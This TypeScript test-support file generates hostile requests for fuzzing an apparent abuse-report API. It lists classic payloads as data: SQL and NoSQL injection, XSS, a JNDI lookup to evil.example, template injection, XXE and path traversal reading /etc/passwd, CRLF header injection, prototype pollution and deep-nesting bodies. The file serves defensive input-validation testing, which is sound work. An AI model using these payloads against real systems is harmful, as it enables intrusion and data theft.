/**
 * Hostile requests for the reliability suite: fast-check arbitraries (zod 4
 * has no zod-fast-check, so they are written by hand around the contract)
 * and a hand-written corpus of the classic attacks.
 */
import fc from 'fast-check';
import { fullSubmission, minimalSubmission } from '../support/reports';

/** One request to send: where, with what media type, and the raw body. */
export interface HostileRequest {
  label: string;
  path: '/reports' | '/reports/status';
  contentType?: string;
  body: string | Uint8Array;
  headers?: Record<string, string>;
}

export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE reports; --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '#{7*7}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=y',
  'PK = :pk OR begins_with(SK, :x)',
  '$where: function() { return true }',
  '\u202Eevil\u202C',
  'A'.repeat(20_000),
] as const;

const CONTROL = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code));
const LONE_SURROGATES = fc.constantFrom('\uD800', '\uDFFF', 'a\uD83Db', '\uDC00\uD800');

const hostileString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: CONTROL, maxLength: 20 }),
  fc.constantFrom(...INJECTIONS),
  LONE_SURROGATES,
  fc.string({ maxLength: 12_000 }),
);

/** Any JSON-ish value a hostile client could put where a field goes. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -0, 1e308, -1e308, 5e-324),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 10 }), fc.constantFrom('__proto__', 'constructor', 'prototype')), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** Dotted paths of every field a valid submission can carry. */
function leafPaths(value: unknown, prefix: string[] = []): string[][] {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return [prefix];
  return [prefix, ...Object.entries(value).flatMap(([key, child]) => leafPaths(child, [...prefix, key]))];
}

const FIELD_PATHS = leafPaths(fullSubmission()).filter((path) => path.length > 0);

function setPath(target: Record<string, unknown>, path: string[], value: unknown): void {
  let node: Record<string, unknown> = target;
  for (const key of path.slice(0, -1)) {
    const next = node[key];
    if (next === null || typeof next !== 'object') node[key] = {};
    node = node[key] as Record<string, unknown>;
  }
  const last = path[path.length - 1] as string;
  if (value === undefined) delete node[last];
  // defineProperty, so `__proto__` becomes an own key as JSON.parse would make it.
  else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
}

/** A valid submission with one to three fields replaced, removed or added. */
const mutatedSubmission = fc
  .record({
    base: fc.constantFrom('full', 'minimal'),
    edits: fc.array(
      fc.record({
        path: fc.oneof(
          fc.constantFrom(...FIELD_PATHS),
          fc.tuple(fc.constantFrom(...FIELD_PATHS), fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString'), fc.string({ maxLength: 12 }))).map(([path, key]) => [...path, key]),
        ),
        value: fc.option(hostileValue, { nil: undefined, freq: 6 }),
      }),
      { minLength: 1, maxLength: 3 },
    ),
  })
  .map(({ base, edits }) => {
    const submission = structuredClone(base === 'full' ? fullSubmission('GEN') : minimalSubmission()) as Record<string, unknown>;
    for (const edit of edits) setPath(submission, edit.path, edit.value);
    return JSON.stringify(submission);
  });

const contentType = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  { weight: 2, arbitrary: fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=utf-16', 'APPLICATION/JSON', 'application/jsonx', '') },
);

/** Generated requests: mutated submissions, random JSON, random bytes, under varied media types. */
export const hostileRequest: fc.Arbitrary<HostileRequest> = fc
  .record({
    kind: fc.constantFrom('mutated', 'mutated', 'mutated', 'json', 'bytes', 'status'),
    mutated: mutatedSubmission,
    json: fc.jsonValue().map((value) => JSON.stringify(value) ?? 'null'),
    bytes: fc.uint8Array({ maxLength: 300 }),
    status: fc.oneof(hostileValue.map((receipt) => JSON.stringify({ receipt })), hostileValue.map((value) => JSON.stringify(value) ?? 'null')),
    contentType,
    idempotencyKey: fc.option(fc.oneof(fc.uuid(), fc.string({ unit: 'grapheme-ascii', maxLength: 200 })), { nil: undefined }),
  })
  .map(({ kind, mutated, json, bytes, status, contentType, idempotencyKey }) => {
    const headers: Record<string, string> = {};
    // Header values must be ByteStrings without CR/LF for fetch; others are the API's problem.
    if (idempotencyKey !== undefined && /^[\x20-\x7e]*$/.test(idempotencyKey)) headers['idempotency-key'] = idempotencyKey;
    const body = kind === 'mutated' ? mutated : kind === 'json' ? json : kind === 'bytes' ? bytes : status;
    return { label: `generated ${kind}`, path: kind === 'status' ? '/reports/status' : '/reports', contentType, body, headers } satisfies HostileRequest;
  });

const deepArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const deepObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
const valid = () => fullSubmission('CORPUS') as unknown as Record<string, unknown>;
const withField = (path: string[], value: unknown) => {
  const submission = structuredClone(valid());
  setPath(submission, path, value);
  return JSON.stringify(submission);
};
const invalidUtf8 = (prefix: string, suffix: string) =>
  new Uint8Array([...Buffer.from(prefix), 0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, ...Buffer.from(suffix)]);

/** The hand-written corpus: each classic attack at least once. */
export function hostileCorpus(): HostileRequest[] {
  const json = 'application/json';
  const corpus: HostileRequest[] = [
    { label: 'empty body', path: '/reports', contentType: json, body: '' },
    { label: 'null', path: '/reports', contentType: json, body: 'null' },
    { label: 'array', path: '/reports', contentType: json, body: '[]' },
    { label: 'string', path: '/reports', contentType: json, body: '"report"' },
    { label: 'number out of range', path: '/reports', contentType: json, body: '1e999' },
    { label: 'truncated JSON', path: '/reports', contentType: json, body: JSON.stringify(valid()).slice(0, 100) },
    { label: 'BOM before JSON', path: '/reports', contentType: json, body: `\uFEFF${JSON.stringify(valid())}` },
    { label: 'deeply nested arrays', path: '/reports', contentType: json, body: deepArray(20_000) },
    { label: 'deeply nested objects', path: '/reports', contentType: json, body: deepObject(9_000) },
    { label: 'deep object in a field', path: '/reports', contentType: json, body: withField(['incident', 'account'], JSON.parse(deepObject(3_000))) },
    { label: 'huge body over the limit', path: '/reports', contentType: json, body: withField(['incident', 'account'], 'x'.repeat(70_000)) },
    { label: 'huge field under the limit', path: '/reports', contentType: json, body: withField(['incident', 'account'], 'x'.repeat(50_000)) },
    { label: '__proto__ at the root', path: '/reports', contentType: json, body: JSON.stringify(valid()).replace(/^\{/, '{"__proto__":{"polluted":"yes","isAdmin":true},') },
    { label: '__proto__ nested', path: '/reports', contentType: json, body: JSON.stringify(valid()).replace('"incident":{', '"incident":{"__proto__":{"kind":"fgm"},') },
    { label: 'constructor.prototype', path: '/reports', contentType: json, body: JSON.stringify(valid()).replace(/^\{/, '{"constructor":{"prototype":{"polluted":"yes"}},') },
    { label: '__proto__ in risk answers', path: '/reports', contentType: json, body: withField(['risk', 'answers'], JSON.parse('{"__proto__":"yes","strangulation":"yes"}')) },
    { label: 'duplicate keys', path: '/reports', contentType: json, body: JSON.stringify(valid()).replace(/^\{/, '{"reporter":{"type":"nobody"},') },
    { label: 'invalid UTF-8 as the body', path: '/reports', contentType: json, body: invalidUtf8('', '') },
    { label: 'invalid UTF-8 inside a string', path: '/reports', contentType: json, body: invalidUtf8(JSON.stringify(valid()).replace(/"He pushed[^"]*"/, '"He pushed '), '"}') },
    { label: 'control characters', path: '/reports', contentType: json, body: withField(['incident', 'account'], '\u0000\u0001\u0007\b\u001b[31m\r\n') },
    { label: 'lone surrogates', path: '/reports', contentType: json, body: withField(['victim', 'name'], '\uD800\uDFFF\uD800') },
    { label: 'wrong type: number for text', path: '/reports', contentType: json, body: withField(['incident', 'account'], 2 ** 70) },
    { label: 'wrong type: object for enum', path: '/reports', contentType: json, body: withField(['incident', 'kind'], { $ne: null }) },
    { label: 'wrong type: array for object', path: '/reports', contentType: json, body: withField(['safeContact'], ['phone']) },
    { label: 'wrong type: string for boolean', path: '/reports', contentType: json, body: withField(['victim', 'anonymous'], 'true') },
    { label: 'number out of range in a boolean', path: '/reports', contentType: json, body: withField(['victim', 'anonymous'], 1e308) },
    { label: 'date out of range', path: '/reports', contentType: json, body: withField(['incident', 'occurredOn'], '99999-13-45') },
    { label: 'too many channels', path: '/reports', contentType: json, body: withField(['safeContact', 'channels'], Array.from({ length: 10_000 }, () => 'phone')) },
    { label: 'form-encoded', path: '/reports', contentType: 'application/x-www-form-urlencoded', body: 'reporter[type]=victim&incident[kind]=fgm' },
    { label: 'multipart', path: '/reports', contentType: 'multipart/form-data; boundary=xyz', body: '--xyz\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--xyz--' },
    { label: 'text/plain JSON', path: '/reports', contentType: 'text/plain', body: JSON.stringify(valid()) },
    { label: 'no content type', path: '/reports', body: JSON.stringify(valid()) },
    { label: 'XML', path: '/reports', contentType: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
    { label: 'octet-stream', path: '/reports', contentType: 'application/octet-stream', body: new Uint8Array([0, 1, 2, 255]) },
    { label: 'bad Idempotency-Key', path: '/reports', contentType: json, body: JSON.stringify(valid()), headers: { 'idempotency-key': "' OR 1=1 --" } },
    { label: 'status: receipt object', path: '/reports/status', contentType: json, body: '{"receipt":{"$gt":""}}' },
    { label: 'status: huge receipt', path: '/reports/status', contentType: json, body: JSON.stringify({ receipt: '9'.repeat(5_000) }) },
    { label: 'status: __proto__', path: '/reports/status', contentType: json, body: '{"__proto__":{"receipt":"1"},"receipt":"0000 0000 0000 0000"}' },
  ];
  for (const injection of INJECTIONS) {
    corpus.push({ label: `injection in free text: ${injection.slice(0, 20)}`, path: '/reports', contentType: json, body: withField(['incident', 'account'], injection) });
    corpus.push({ label: `injection in an enum: ${injection.slice(0, 20)}`, path: '/reports', contentType: json, body: withField(['incident', 'kind'], injection) });
    corpus.push({ label: `injection as a key: ${injection.slice(0, 20)}`, path: '/reports', contentType: json, body: withField(['safeContact', injection.slice(0, 200)], 'x') });
    corpus.push({ label: `injection as a receipt: ${injection.slice(0, 20)}`, path: '/reports/status', contentType: json, body: JSON.stringify({ receipt: injection.slice(0, 500) }) });
  }
  return corpus;
}
